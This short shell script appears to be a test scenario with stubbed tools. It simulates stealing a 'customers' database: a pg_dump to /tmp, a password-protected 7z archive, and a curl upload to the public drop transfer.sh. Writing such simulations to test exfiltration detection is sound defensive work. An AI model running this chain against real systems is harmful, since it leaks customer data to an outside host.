# A database is dumped to /tmp, packed with a password and left at a public drop (harmless programs).
prepare() { stand_in pg_dump 7z curl; }
act() {
    pg_dump -f /tmp/c.sql customers; sh -c 'pg_dump -f /tmp/c.sql customers'
    7z a -pSecret /tmp/o.7z /tmp/c.sql
    curl -T /tmp/o.7z https://transfer.sh/o
}
